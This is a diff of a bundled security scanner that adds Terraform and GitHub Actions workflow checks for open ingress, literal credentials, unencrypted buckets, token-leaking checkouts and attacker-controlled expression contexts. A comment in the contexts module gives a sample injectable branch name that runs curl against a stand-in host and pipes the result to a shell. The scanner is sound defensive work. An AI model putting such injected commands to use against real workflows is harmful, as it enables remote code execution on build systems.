+const RESOURCE_TYPES = [
+    ...AWS_GROUPS,
+    'aws_security_group_rule',
+    'aws_vpc_security_group_ingress_rule',
+    'google_compute_firewall',
+    'azurerm_network_security_rule',
+    'azurerm_network_security_group',
+];
+/**
+ * Flags firewall rules that open administrative or database ports to every address (`0.0.0.0/0`,
+ * `::/0`, Azure's `*`/`Internet`): AWS security groups (inline `ingress`, `aws_security_group_rule`,
+ * `aws_vpc_security_group_ingress_rule`), GCP `google_compute_firewall` and Azure network security
+ * rules. Each open source is reported at its value; computed ports or protocols are not judged.
+ */
+const terraformOpenIngress = defineEvaluator({
+    kind: 'terraform.open-ingress',
+    summary: 'Terraform firewall rules (AWS security groups, GCP firewalls, Azure NSG rules) that open administrative ' +
+        'or database ports to 0.0.0.0/0 or ::/0.',
+    schema: {
+        type: 'object',
+        additionalProperties: false,
+        properties: {
+            ports: {
+                type: 'array',
+                minItems: 1,
+                uniqueItems: true,
+                items: { type: 'integer', minimum: 0, maximum: 65535 },
+                default: [22, 3389, 3306, 5432, 1433, 27017, 6379],
+                description: 'Ports that must not be reachable from anywhere.',
+            },
+        },
+    },
+    async evaluate({ options, workspace }) {
+        const files = await terraformFiles(workspace);
+        const findings = [];
+        for (const resource of terraformResources(files, RESOURCE_TYPES)) {
+            for (const rule of ingressRules(resource)) {
+                const exposed = exposedPorts(rule.ports, options.ports);
+                if (exposed.length === 0)
+                    continue;
+                for (const source of rule.sources) {
+                    if (!isAnywhere(source.value, resource.type.startsWith('azurerm_')))
+                        continue;
+                    findings.push({
+                        message: `${describeResource(resource)} allows ingress from ${source.value} to ${describePorts(rule.ports, exposed)}: ` +
+                            'administrative and database services should only be reachable from known networks.',
+                        location: spanLocation(resource.file.path, source.span),
+                        key: `${resource.type}.${resource.name}:${source.value}:${exposed.join(',')}`,
+                    });
+                }
+            }
+        }
+        return findings;
+    },
+});
+function ingressRules(r) {
+    const body = r.block.body;
+    switch (r.type) {
+        case 'aws_security_group':
+        case 'aws_default_security_group':
+            return nestedBlocks(body, 'ingress').map((b) => awsRule(r, b.body, 'protocol'));
+        case 'aws_security_group_rule':
+            return open_ingress_str(body, 'type')?.toLowerCase() === 'ingress' ? [awsRule(r, body, 'protocol')] : [];
+        case 'aws_vpc_security_group_ingress_rule':
+            return [awsRule(r, body, 'ip_protocol')];
+        case 'google_compute_firewall':
+            return gcpRule(r, body);
+        case 'azurerm_network_security_rule':
+            return azureRule(r, body);
+        case 'azurerm_network_security_group':
+            return nestedBlocks(body, 'security_rule').flatMap((b) => azureRule(r, b.body));
+        default:
+            return [];
+    }
+}
+function awsRule(resource, body, protocolName) {
+    const sources = ['cidr_blocks', 'ipv6_cidr_blocks', 'cidr_ipv4', 'cidr_ipv6'].flatMap((n) => strings(body, n));
+    const protocol = attribute(body, protocolName);
+    const p = protocol ? terraform_literal(protocol.value) : 'tcp';
+    const proto = p === undefined || p === null ? 'tcp' : String(p).toLowerCase();
+    if (proto === '-1' || proto === 'all')
+        return { resource, sources, ports: 'all' };
+    if (proto !== 'tcp' && proto !== '6')
+        return { resource, sources, ports: [] };
+    const from = num(body, 'from_port');
+    const to = num(body, 'to_port');
+    return { resource, sources, ports: from === undefined || to === undefined ? undefined : [[from, to]] };
+}
+function gcpRule(resource, body) {
+    const direction = open_ingress_str(body, 'direction')?.toUpperCase() ?? 'INGRESS';
+    if (direction !== 'INGRESS' || literalOf(body, 'disabled') === true)
+        return [];
+    const sources = strings(body, 'source_ranges');
+    return nestedBlocks(body, 'allow').map(({ body: allow }) => {
+        const proto = open_ingress_str(allow, 'protocol')?.toLowerCase();
+        if (proto !== 'tcp' && proto !== 'all' && proto !== '6')
+            return { resource, sources, ports: [] };
+        const ports = attribute(allow, 'ports');
+        if (!ports)
+            return { resource, sources, ports: 'all' };
+        return { resource, sources, ports: rangesOf(ports.value) };
+    });
+}
+function azureRule(resource, body) {
+    if (open_ingress_str(body, 'direction')?.toLowerCase() !== 'inbound' || open_ingress_str(body, 'access')?.toLowerCase() !== 'allow') {
+        return [];
+    }
+    const proto = open_ingress_str(body, 'protocol')?.toLowerCase();
+    if (proto !== 'tcp' && proto !== '*')
+        return [];
+    const sources = [...strings(body, 'source_address_prefix'), ...strings(body, 'source_address_prefixes')];
+    const single = attribute(body, 'destination_port_range');
+    const list = attribute(body, 'destination_port_ranges');
+    const ranges = [single, list].flatMap((a) => (a ? [rangesOf(a.value)] : []));
+    if (ranges.includes('all'))
+        return [{ resource, sources, ports: 'all' }];
+    if (ranges.length === 0 || ranges.some((r) => r === undefined))
+        return [{ resource, sources, ports: undefined }];
+    return [{ resource, sources, ports: ranges.flat() }];
+}
+/** Port ranges from `"22"`, `"1000-2000"`, `"*"`, `22` or a list of those; undefined when computed. */
+function rangesOf(value) {
+    const items = value.kind === 'tuple' ? value.items : [value];
+    const out = [];
+    for (const item of items) {
+        const v = terraform_literal(item);
+        if (v === undefined || v === null)
+            return undefined;
+        const text = String(v).trim();
+        if (text === '*')
+            return 'all';
+        const m = /^(\d+)(?:-(\d+))?$/.exec(text);
+        if (!m)
+            return undefined;
+        out.push([Number(m[1]), Number(m[2] ?? m[1])]);
+    }
+    return out;
+}
+function exposedPorts(ports, watched) {
+    if (ports === undefined)
+        return [];
+    const hit = ports === 'all' ? [...watched] : watched.filter((p) => ports.some(([from, to]) => from <= p && p <= to));
+    return hit.sort((a, b) => a - b);
+}
+function describePorts(ports, exposed) {
+    const named = exposed.map((p) => (PORT_NAMES[p] ? `${p} (${PORT_NAMES[p]})` : String(p))).join(', ');
+    if (ports === 'all')
+        return `all ports, including ${named}`;
+    return exposed.length === 1 ? `port ${named}` : `ports ${named}`;
+}
+/** Any IPv4 or IPv6 prefix of length 0 is every address; Azure also names it `*`, `Internet`, `Any`. */
+function isAnywhere(source, azure) {
+    const s = source.trim();
+    if (/\/0$/.test(s))
+        return true;
+    return azure && ['*', 'internet', 'any'].includes(s.toLowerCase());
+}
+function literalOf(body, name) {
+    const a = attribute(body, name);
+    return a ? terraform_literal(a.value) : undefined;
+}
+function open_ingress_str(body, name) {
+    const v = literalOf(body, name);
+    return typeof v === 'string' ? v : undefined;
+}
+function num(body, name) {
+    const v = literalOf(body, name);
+    const n = typeof v === 'number' ? v : typeof v === 'string' && /^\d+$/.test(v) ? Number(v) : undefined;
+    return n;
+}
+/** Literal strings of an attribute that is a string or a list of strings, each with its span. */
+function strings(body, name) {
+    const a = attribute(body, name);
+    if (!a)
+        return [];
+    const items = a.value.kind === 'tuple' ? a.value.items : [a.value];
+    return items.flatMap((i) => (i.kind === 'string' ? [{ value: i.value, span: i.span }] : []));
+}
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/terraform/provider-credentials.js
+
+
+
+/** Nested blocks of a provider (`assume_role`, `features`) are searched this deep. */
+const provider_credentials_MAX_NESTING = 4;
+/**
+ * Flags credentials written as literals in `provider` blocks and in the `backend` of the `terraform`
+ * block: anyone who can read the repository, or its history, can use them. Values from variables,
+ * environment lookups or functions (`var.token`, `file(...)`) are fine; empty strings and obvious
+ * placeholders are not credentials. The value never appears in the finding, only its length.
+ */
+const terraformProviderCredentials = defineEvaluator({
+    kind: 'terraform.provider-credentials',
+    summary: 'Terraform provider and backend blocks with credentials (keys, secrets, tokens, passwords) as literals.',
+    schema: {
+        type: 'object',
+        additionalProperties: false,
+        properties: {
+            attributes: {
+                type: 'array',
+                minItems: 1,
+                uniqueItems: true,
+                items: { type: 'string', pattern: '^[a-z0-9_]+$' },
+                default: [
+                    'access_key',
+                    'secret_key',
+                    'token',
+                    'password',
+                    'client_secret',
+                    'client_certificate_password',
+                    'access_token',
+                    'api_key',
+                    'api_token',
+                    'secret',
+                    'sas_token',
+                    'master_password',
+                ],
+                description: 'Attribute names that hold credentials.',
+            },
+        },
+    },
+    async evaluate({ options, workspace }) {
+        const files = await terraformFiles(workspace);
+        const names = new Set(options.attributes);
+        const findings = [];
+        for (const file of files) {
+            for (const { block, what } of credentialHolders(file)) {
+                scan(block.body, 0, (attr, trail) => {
+                    if (!names.has(attr.name))
+                        return;
+                    const value = attr.value.kind === 'string' ? attr.value.value : undefined;
+                    if (value === undefined || provider_credentials_isPlaceholder(value))
+                        return;
+                    const setting = [...trail, attr.name].join('.');
+                    findings.push({
+                        message: `${what} sets ${setting} to a literal value (${value.length} characters): the credential is in the ` +
+                            'repository and its history for anyone who can read them. Pass it through an environment ' +
+                            "variable, a variable marked sensitive, or the provider's credential chain, and rotate it.",
+                        location: spanLocation(file.path, attr.value.span),
+                        key: `${what}:${setting}`,
+                    });
+                });
+            }
+        }
+        return findings;
+    },
+});
+/** `provider "<name>"` blocks and the `backend` blocks of `terraform` blocks, with their names. */
+function credentialHolders(file) {
+    const out = [];
+    for (const block of file.body.blocks) {
+        if (block.type === 'provider' && block.labels[0]) {
+            const alias = attribute(block.body, 'alias');
+            const suffix = alias?.value.kind === 'string' ? ` (alias "${alias.value.value}")` : '';
+            out.push({ block, what: `provider "${block.labels[0]}"${suffix}` });
+        }
+        else if (block.type === 'terraform') {
+            for (const backend of block.body.blocks) {
+                if (backend.type === 'backend' && backend.labels[0]) {
+                    out.push({ block: backend, what: `backend "${backend.labels[0]}"` });
+                }
+            }
+        }
+    }
+    return out;
+}
+function scan(body, depth, visit, trail = []) {
+    for (const attr of body.attributes)
+        visit(attr, trail);
+    if (depth >= provider_credentials_MAX_NESTING)
+        return;
+    for (const block of body.blocks)
+        scan(block.body, depth + 1, visit, [...trail, block.type]);
+}
+/** Empty values and stand-ins used in examples and local emulators are not credentials. */
+function provider_credentials_isPlaceholder(value) {
+    const v = value.trim();
+    return (v === '' ||
+        /^<[^<>]*>$/.test(v) ||
+        /^\$\{[^}]*\}$/.test(v) ||
+        /^[x*.]+$/i.test(v) ||
+        /^(test|mock|fake|dummy|example|placeholder|changeme|none|null|foo|bar)([-_ ].*)?$/i.test(v));
+}
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/terraform/s3-encryption.js
+
+
+
+const SSE_RESOURCE = 'aws_s3_bucket_server_side_encryption_configuration';
+/** `aws_s3_bucket.<name>` anywhere in an expression (`.id`, `.bucket`, `[0].id`, `[each.key].id`). */
+const BUCKET_REFERENCE = /\baws_s3_bucket\.([A-Za-z_][\w-]*)/g;
+/**
+ * Flags `aws_s3_bucket` resources without a server-side encryption configuration: neither the inline
+ * `server_side_encryption_configuration` block (provider v3 and earlier) nor an
+ * `aws_s3_bucket_server_side_encryption_configuration` resource in the same module whose `bucket`
+ * references the bucket (or names it literally). When such a resource's bucket cannot be resolved,
+ * the module's buckets are given the benefit of the doubt.
+ */
+const terraformS3Encryption = defineEvaluator({
+    kind: 'terraform.s3-encryption',
+    summary: 'Terraform aws_s3_bucket resources without a server-side encryption configuration, inline or as a separate resource.',
+    schema: { type: 'object', additionalProperties: false, properties: {} },
+    async evaluate({ workspace }) {
+        const files = await terraformFiles(workspace);
+        const coverage = new Map();
+        for (const sse of terraformResources(files, [SSE_RESOURCE]))
+            covered(coverage, sse);
+        const findings = [];
+        for (const bucket of terraformResources(files, ['aws_s3_bucket'])) {
+            if (nestedBlocks(bucket.block.body, 'server_side_encryption_configuration').length > 0)
+                continue;
+            const c = coverage.get(bucket.file.module);
+            if (c?.unresolved || c?.names.has(bucket.name))
+                continue;
+            const name = attribute(bucket.block.body, 'bucket');
+            const literalName = name ? terraform_literal(name.value) : undefined;
+            if (typeof literalName === 'string' && c?.literals.has(literalName))
+                continue;
+            findings.push({
+                message: `${describeResource(bucket)} has no server-side encryption configuration (no inline ` +
+                    `server_side_encryption_configuration block and no ${SSE_RESOURCE} for it in ${bucket.file.module === '.' ? 'the root module' : bucket.file.module}): ` +
+                    'the encryption of its objects and the key that protects them are left to account defaults.',
+                location: spanLocation(bucket.file.path, bucket.block.typeSpan, true),
+                key: `aws_s3_bucket.${bucket.name}`,
+            });
+        }
+        return findings;
+    },
+});
+function covered(coverage, sse) {
+    let c = coverage.get(sse.file.module);
+    if (!c) {
+        c = { names: new Set(), literals: new Set(), unresolved: false };
+        coverage.set(sse.file.module, c);
+    }
+    const bucket = attribute(sse.block.body, 'bucket');
+    if (!bucket)
+        return;
+    const value = terraform_literal(bucket.value);
+    if (typeof value === 'string') {
+        c.literals.add(value);
+        return;
+    }
+    const refs = [...bucket.value.text.matchAll(BUCKET_REFERENCE)].map((m) => m[1]);
+    if (refs.length === 0)
+        c.unresolved = true;
+    for (const ref of refs)
+        c.names.add(ref);
 }
 
 ;// CONCATENATED MODULE: ./lib/core/parsers/uses.js
@@ -25284,6 +38661,1943 @@ function refPinning(ref) {
         return 'short-sha';
     return 'mutable';
 }
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/workflow/shared.js
+
+
+/** Events whose runs execute (or are triggered by) a pull request that may come from a fork. */
+const PR_EVENTS = new Set([
+    'pull_request',
+    'pull_request_target',
+    'pull_request_review',
+    'pull_request_review_comment',
+]);
+/** Events that run with the base repository's secrets and a writable token on outsiders' input. */
+const PRIVILEGED_EVENTS = new Set(['pull_request_target', 'workflow_run']);
+/** The events a workflow is triggered by. */
+function eventsOf(workflow) {
+    return new Set((workflow.on?.events ?? []).map((e) => e.event));
+}
+/** `owner/repo` (lower case) of a step's or job's `uses:`, when it names another repository. */
+function actionOf(uses) {
+    if (!uses)
+        return undefined;
+    const ref = parseUses(uses.value);
+    return ref.kind === 'repository' ? `${ref.owner}/${ref.repo}`.toLowerCase() : undefined;
+}
+/** `owner/repo[/path]` (lower case) of a `uses:`, for matching sub-actions such as `github/codeql-action/analyze`. */
+function actionPathOf(uses) {
+    if (!uses)
+        return undefined;
+    const ref = parseUses(uses.value);
+    if (ref.kind !== 'repository')
+        return undefined;
+    return [ref.owner, ref.repo, ...(ref.path ? [ref.path] : [])].join('/').toLowerCase();
+}
+/** The `@ref` of a repository `uses:`. */
+function refOf(uses) {
+    if (!uses)
+        return undefined;
+    const ref = parseUses(uses.value);
+    return ref.kind === 'repository' ? ref.ref : undefined;
+}
+/** A `with:` input (input names are case-insensitive). */
+function input(step, name) {
+    for (const [k, v] of step.with?.entries ?? [])
+        if (k.toLowerCase() === name)
+            return v;
+    return undefined;
+}
+/** YAML `false`, or a string that GitHub reads as false. */
+function isFalse(node) {
+    if (!node)
+        return false;
+    return (node.value === false || (typeof node.value === 'string' && node.value.trim().toLowerCase() === 'false'));
+}
+/** YAML `true`, or a string that GitHub reads as true. */
+function isTrue(node) {
+    if (!node)
+        return false;
+    return (node.value === true || (typeof node.value === 'string' && node.value.trim().toLowerCase() === 'true'));
+}
+/** A case-insensitive glob matcher over `owner/repo[/path]`, or one that matches nothing. */
+function shared_globMatcher(globs) {
+    return globs.length > 0 ? picomatch([...globs], { nocase: true, dot: true }) : () => false;
+}
+/** The job's `if:` as text (empty when absent). */
+function conditionOf(job) {
+    return typeof job.if?.value === 'string' ? job.if.value : '';
+}
+/** The text a step contributes to keyword searches: its action, name and script. */
+function stepText(step) {
+    return [step.uses?.value, step.name?.value, step.run?.value]
+        .filter((v) => typeof v === 'string')
+        .join('\n');
+}
+/** A content label for a step (its id, name, action or `run`), for fingerprints that survive edits. */
+function stepLabel(step) {
+    for (const v of [step.id?.value, step.name?.value, step.uses?.value])
+        if (typeof v === 'string' && v)
+            return v;
+    return step.run ? 'run' : `#${step.index}`;
+}
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/workflow/checkout-credentials.js
+
+
+
+
+/**
+ * `actions/checkout` writes the job's token into `.git/config` unless `persist-credentials: false`,
+ * where every later step (and every file upload of the checkout directory) can read it. In a workflow
+ * that uploads artifacts, each persisting checkout is reported at its `uses:` (or at an explicit
+ * `persist-credentials: true`). It is high when the same job uploads the checkout directory itself
+ * with hidden files included (upload-artifact before v4.4, or `include-hidden-files: true`): then the
+ * token is in the artifact for anyone who can download it.
+ */
+const workflowCheckoutCredentials = defineEvaluator({
+    kind: 'workflow.checkout-credentials',
+    summary: 'actions/checkout persisting the token in .git/config in workflows that upload artifacts.',
+    schema: { type: 'object', additionalProperties: false, properties: {} },
+    evaluate({ workspace }) {
+        const findings = [];
+        walkWorkflows(workflowSources(workspace), {
+            workflow(workflow) {
+                const uploads = workflow.jobs.flatMap((j) => j.steps.filter((s) => actionOf(s.uses) === 'actions/upload-artifact'));
+                if (uploads.length === 0)
+                    return;
+                for (const job of workflow.jobs) {
+                    for (const step of job.steps) {
+                        if (actionOf(step.uses) !== 'actions/checkout' || isFalse(input(step, 'persist-credentials')))
+                            continue;
+                        findings.push(finding(workflow, job, step));
+                    }
+                }
+            },
+        });
+        return findings;
+    },
+});
+function finding(workflow, job, step) {
+    const explicit = input(step, 'persist-credentials');
+    const at = isTrue(explicit) ? explicit : step.uses;
+    const dir = typeof input(step, 'path')?.value === 'string' ? String(input(step, 'path').value) : '.';
+    const leaking = job.steps.find((s) => s.index > step.index && uploadsWithGitDir(s, dir));
+    const base = `actions/checkout in job "${job.id}" leaves the job's token in .git/config (no "persist-credentials: false") ` +
+        'in a workflow that uploads artifacts';
+    return {
+        message: leaking
+            ? `${base}, and step "${stepLabel(leaking)}" uploads the checkout directory including hidden files, so the ` +
+                'token ends up in the artifact. Set "persist-credentials: false" and upload only the build output.'
+            : `${base}; any later step or a broadened upload path can read or publish it. Set "persist-credentials: false" ` +
+                'unless a later step pushes with it.',
+        location: locationFromSpan(workflow.path, at.span),
+        key: `${job.id}/${stepLabel(step)}`,
+        ...(leaking ? { severity: 'high' } : {}),
+    };
+}
+/** An upload whose paths cover the checkout directory and that keeps hidden files (such as .git). */
+function uploadsWithGitDir(step, dir) {
+    if (actionOf(step.uses) !== 'actions/upload-artifact')
+        return false;
+    const path = input(step, 'path');
+    if (typeof path?.value !== 'string')
+        return false;
+    const root = dir.replace(/^\.\/?/, '').replace(/\/$/, '');
+    const covers = path.value.split('\n').some((line) => {
+        const p = line
+            .trim()
+            .replace(/^\.\/?/, '')
+            .replace(/\/$/, '');
+        if (p.startsWith('!'))
+            return false;
+        return (p === '' ||
+            p === '*' ||
+            p === '**' ||
+            /^\$\{\{\s*github\.workspace\s*\}\}$/.test(p) ||
+            (root !== '' && p === root));
+    });
+    if (!covers)
+        return false;
+    if (isTrue(input(step, 'include-hidden-files')))
+        return true;
+    // upload-artifact excludes hidden files by default since v4.4.0; earlier versions include them.
+    const m = /^v(\d+)(?:\.(\d+))?/.exec(refOf(step.uses) ?? '');
+    if (!m)
+        return false;
+    const major = Number(m[1]);
+    return major < 4 || (major === 4 && m[2] !== undefined && Number(m[2]) < 4);
+}
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/workflow/container-credentials.js
+
+
+
+/**
+ * A registry password written into a job's `container:` or `services:` credentials is a secret in
+ * the repository, readable by everyone who can read the code and kept in its history. Reported at the
+ * value, which never appears in the message.
+ */
+const workflowContainerCredentials = defineEvaluator({
+    kind: 'workflow.container-credentials',
+    summary: 'Hard-coded registry passwords in job container or service credentials.',
+    schema: { type: 'object', additionalProperties: false, properties: {} },
+    evaluate({ workspace }) {
+        const findings = [];
+        walkWorkflows(workflowSources(workspace), {
+            job(job, workflow) {
+                const specs = [];
+                if (job.container)
+                    specs.push([job.container, `the container of job "${job.id}"`]);
+                for (const s of job.services)
+                    specs.push([s, `service "${s.id}" of job "${job.id}"`]);
+                for (const [spec, what] of specs) {
+                    const password = [...(spec.credentials?.entries ?? [])].find(([k]) => k.toLowerCase() === 'password')?.[1];
+                    const value = password?.value;
+                    if (!password || value === null || value === undefined || value === '')
+                        continue;
+                    if (typeof value === 'string' && value.includes('${{'))
+                        continue;
+                    findings.push({
+                        message: `The registry password for ${what} is written in the workflow (value redacted). Store it as a secret ` +
+                            'and reference it (secrets.REGISTRY_PASSWORD in an expression); rotate the exposed one.',
+                        location: locationFromSpan(workflow.path, password.span),
+                        key: `${job.id}/${spec.id ?? 'container'}/password`,
+                    });
+                }
+            },
+        });
+        return findings;
+    },
+});
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/workflow/contexts.js
+/**
+ * Which expression contexts an outsider controls, and how much. Written from GitHub's webhook payload
+ * documentation: a value is listed when someone without write access can choose it (by opening a
+ * pull request, an issue, a comment, a discussion, or by naming a branch or writing a commit message
+ * in a fork). Everything else — SHAs, numbers, ids, booleans, logins and repository names (whose
+ * alphabet cannot carry shell or script syntax), values set by maintainers — is not a source.
+ *
+ * - `arbitrary`: free text, or a git name that can carry shell syntax without spaces
+ *   (`a";curl${IFS}evil|sh;#` is a valid branch name).
+ * - `structured`: a value with a validated syntax (a URL, an account e-mail address) that still
+ *   admits characters a shell or script interprets.
+ */
+const COMMIT = ['message', 'author.name', 'author.email', 'committer.name', 'committer.email'];
+const contexts_LABEL = ['name', 'description'];
+const ARBITRARY = [
+    'github.head_ref',
+    'github.event.pull_request.title',
+    'github.event.pull_request.body',
+    'github.event.pull_request.head.ref',
+    'github.event.pull_request.head.label',
+    'github.event.pull_request.head.repo.description',
+    'github.event.pull_request.head.repo.default_branch',
+    'github.event.pull_request.auto_merge.commit_title',
+    'github.event.pull_request.auto_merge.commit_message',
+    ...contexts_LABEL.map((f) => `github.event.pull_request.labels.*.${f}`),
+    'github.event.issue.title',
+    'github.event.issue.body',
+    ...contexts_LABEL.map((f) => `github.event.issue.labels.*.${f}`),
+    ...contexts_LABEL.map((f) => `github.event.label.${f}`),
+    'github.event.comment.body',
+    'github.event.comment.path',
+    'github.event.comment.diff_hunk',
+    'github.event.review.body',
+    'github.event.discussion.title',
+    'github.event.discussion.body',
+    ...contexts_LABEL.map((f) => `github.event.discussion.labels.*.${f}`),
+    'github.event.answer.body',
+    'github.event.changes.**',
+    ...COMMIT.map((f) => `github.event.head_commit.${f}`),
+    ...COMMIT.map((f) => `github.event.commits.*.${f}`),
+    ...COMMIT.map((f) => `github.event.merge_group.head_commit.${f}`),
+    'github.event.pages.*.page_name',
+    'github.event.pages.*.title',
+    'github.event.workflow_run.head_branch',
+    'github.event.workflow_run.display_title',
+    'github.event.workflow_run.head_repository.description',
+    'github.event.workflow_run.pull_requests.*.head.ref',
+    ...COMMIT.map((f) => `github.event.workflow_run.head_commit.${f}`),
+    'github.event.check_suite.head_branch',
+    ...COMMIT.map((f) => `github.event.check_suite.head_commit.${f}`),
+    'github.event.check_run.check_suite.head_branch',
+    // repository_dispatch: bots commonly forward comment or pull request text here.
+    'github.event.client_payload.**',
+];
+const STRUCTURED = [
+    'github.event.pull_request.head.repo.homepage',
+    'github.event.workflow_run.head_repository.homepage',
+    'github.event.pusher.email',
+];
+/**
+ * Values that name the code of a pull request (its head commit, branch or fork), used to recognise a
+ * checkout of untrusted code in privileged workflows.
+ */
+const HEAD = [
+    'github.head_ref',
+    'github.event.pull_request.head.sha',
+    'github.event.pull_request.head.ref',
+    'github.event.pull_request.head.label',
+    'github.event.pull_request.merge_commit_sha',
+    'github.event.pull_request.head.repo.full_name',
+    'github.event.pull_request.head.repo.clone_url',
+    'github.event.pull_request.head.repo.ssh_url',
+    'github.event.pull_request.head.repo.git_url',
+    'github.event.pull_request.head.repo.html_url',
+    'github.event.workflow_run.head_sha',
+    'github.event.workflow_run.head_branch',
+    'github.event.workflow_run.head_commit.id',
+    'github.event.workflow_run.head_repository.full_name',
+    'github.event.workflow_run.head_repository.clone_url',
+    'github.event.workflow_run.pull_requests.*.head.sha',
+    'github.event.workflow_run.pull_requests.*.head.ref',
+    'github.event.check_suite.head_sha',
+    'github.event.check_suite.head_branch',
+];
+const compile = (list, capability) => list.map((p) => ({ segments: p.split('.'), capability }));
+const INJECTABLE = [...compile(ARBITRARY, 'arbitrary'), ...compile(STRUCTURED, 'structured')];
+const HEAD_PATTERNS = compile(HEAD, 'arbitrary');
+/** How attacker-controlled a context path is, or undefined when it is not a source. */
+function classifyContext(path) {
+    return classifyWith(INJECTABLE, path);
+}
+/** Whether a context path names the head (code) of a pull request or of a triggering run. */
+function classifyHeadRef(path) {
+    return classifyWith(HEAD_PATTERNS, path);
+}
+function classifyWith(patterns, path) {
+    let exact;
+    let contained;
+    for (const p of patterns) {
+        const m = match(p.segments, path);
+        if (m === 'exact')
+            exact = worst(exact, p.capability);
+        else if (m === 'prefix')
+            contained = worst(contained, p.capability);
+    }
+    // A filter (`.*`) turns a value into an array of such values.
+    const filtered = path.includes('*');
+    if (exact)
+        return { capability: exact, collection: filtered };
+    if (contained)
+        return { capability: contained, collection: true };
+    return undefined;
+}
+/** `exact` when the path is the pattern, `prefix` when it is an object that contains it. */
+function match(pattern, path) {
+    for (let i = 0; i < path.length; i++) {
+        const want = pattern[i];
+        if (want === undefined)
+            return undefined;
+        if (want === '**')
+            return 'exact';
+        const got = path[i];
+        if (want === '*') {
+            if (got !== '*' && got !== '#' && got !== '?' && !/^\d+$/.test(got))
+                return undefined;
+            continue;
+        }
+        if (got !== want && got !== '?')
+            return undefined;
+    }
+    return path.length === pattern.length ? 'exact' : 'prefix';
+}
+function worst(a, b) {
+    return a === 'arbitrary' || b === 'arbitrary' ? 'arbitrary' : 'structured';
+}
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/workflow/callers.js
+
+
+/**
+ * The jobs and steps of the repository that call the reusable workflow or local action in `file`
+ * (`uses: ./.github/workflows/x.yml`, `uses: ./path/to/action`), so that `inputs.*` can be followed
+ * back to the values passed in. Indexed once per run.
+ */
+function localCallers(workspace, file) {
+    const index = workspace.memo('workflow-local-callers', '', () => {
+        const map = new Map();
+        const add = (target, caller) => {
+            const list = map.get(target);
+            if (list)
+                list.push(caller);
+            else
+                map.set(target, [caller]);
+        };
+        walkWorkflows(workflowSources(workspace), {
+            job(job, workflow) {
+                const ref = job.uses && parseUses(job.uses.value);
+                if (ref && ref.kind === 'local')
+                    add(normalize(ref.path), { source: workflow, job, ...withOf(job.with) });
+            },
+            step(step, source, job) {
+                const ref = step.uses && parseUses(step.uses.value);
+                if (ref?.kind !== 'local')
+                    return;
+                const dir = normalize(ref.path).replace(/\/$/, '');
+                const caller = { source, step, ...(job ? { job } : {}), ...withOf(step.with) };
+                for (const name of ['action.yml', 'action.yaml'])
+                    add(dir === '' ? name : `${dir}/${name}`, caller);
+            },
+        });
+        return map;
+    });
+    return index.get(file) ?? [];
+}
+function withOf(map) {
+    return map ? { with: map } : {};
+}
+/** `./a/./b/` -> `a/b/`: the path relative to the repository root, as the index lists files. */
+function normalize(path) {
+    return path
+        .split('/')
+        .filter((s) => s !== '.' && s !== '')
+        .join('/')
+        .concat(path.endsWith('/') ? '/' : '');
+}
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/workflow/dataflow-scopes.js
+
+/** Where the values behind `env`, `inputs` and `matrix` references are declared (used by dataflow.ts). */
+/** The entry of an `env:`-like mapping; expression property access is case-insensitive. */
+function entry(map, name) {
+    if (!map)
+        return undefined;
+    for (const [k, v] of map.entries)
+        if (k.toLowerCase() === name)
+            return [k, v];
+    return undefined;
+}
+/** The scope in which a caller evaluates the values it passes. */
+function callerScope(caller) {
+    if (caller.step)
+        return { source: caller.source, job: caller.job, stepIndex: caller.step.index, level: 'step' };
+    return { source: caller.source, job: caller.job, level: 'job' };
+}
+/** Declared types and defaults of an input of a reusable workflow, a manual workflow or an action. */
+function declaredInputs(source, name) {
+    const types = [];
+    const defaults = [];
+    const read = (inputs, pointer) => {
+        if (!inputs || typeof inputs !== 'object')
+            return;
+        for (const [k, v] of Object.entries(inputs)) {
+            if (k.toLowerCase() !== name || !v || typeof v !== 'object')
+                continue;
+            const spec = v;
+            if (typeof spec.type === 'string')
+                types.push(spec.type);
+            else
+                types.push('string');
+            if (typeof spec.default === 'string' && spec.default.includes('${{')) {
+                const p = `${pointer}/${escapePointerToken(k)}/default`;
+                const span = source.document.span(p) ?? source.document.nearestSpan(p);
+                if (span)
+                    defaults.push({ value: spec.default, pointer: p, span });
+            }
+        }
+    };
+    if (source.kind === 'action')
+        read(source.inputs?.value, source.inputs?.pointer ?? '/inputs');
+    else
+        for (const e of source.on?.events ?? []) {
+            if ((e.event === 'workflow_call' || e.event === 'workflow_dispatch') && e.config) {
+                const inputs = e.config.value?.inputs;
+                read(inputs, `${e.config.pointer}/inputs`);
+            }
+        }
+    return { types, defaults };
+}
+/** Pointers of the values a matrix key takes: `matrix.<key>` lists and `include` entries. */
+function matrixPointers(base, matrix, key) {
+    const pointers = [];
+    for (const k of Object.keys(matrix)) {
+        if (k.toLowerCase() === key)
+            pointers.push(`${base}/${escapePointerToken(k)}`);
+    }
+    const include = matrix.include;
+    if (Array.isArray(include)) {
+        for (const [i, item] of include.entries()) {
+            if (!item || typeof item !== 'object')
+                continue;
+            for (const k of Object.keys(item)) {
+                if (k.toLowerCase() === key)
+                    pointers.push(`${base}/include/${i}/${escapePointerToken(k)}`);
+            }
+        }
+    }
+    else if (typeof include === 'string')
+        pointers.push(`${base}/include`);
+    return pointers;
+}
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/workflow/shell.js
+/**
+ * Light reading of `run:` scripts: which step outputs and environment variables a script writes (and
+ * from what), and commands that download and execute code. It is not a shell parser: it reads
+ * logical lines (backslash continuations joined) with linear-time patterns, which is how these
+ * commands are written in practice; what it cannot see it does not report.
+ */
+/** Replaces `\` + line break with blanks of the same length, so offsets stay valid. */
+function shell_joinContinuations(script) {
+    return script.replace(/\\\r?\n/g, (m) => ' '.repeat(m.length));
+}
+function lines(script) {
+    const out = [];
+    const joined = shell_joinContinuations(script);
+    let at = 0;
+    for (const text of joined.split('\n')) {
+        out.push({ start: at, end: at + text.length, text });
+        at += text.length + 1;
+    }
+    return out;
+}
+const ASSIGNMENT = /^\s*(?:export\s+|local\s+|readonly\s+|declare(?:\s+-\w+)*\s+)?([A-Za-z_]\w*)=(.*)$/;
+const VAR_REF = /\$\{?([A-Za-z_]\w*)/g;
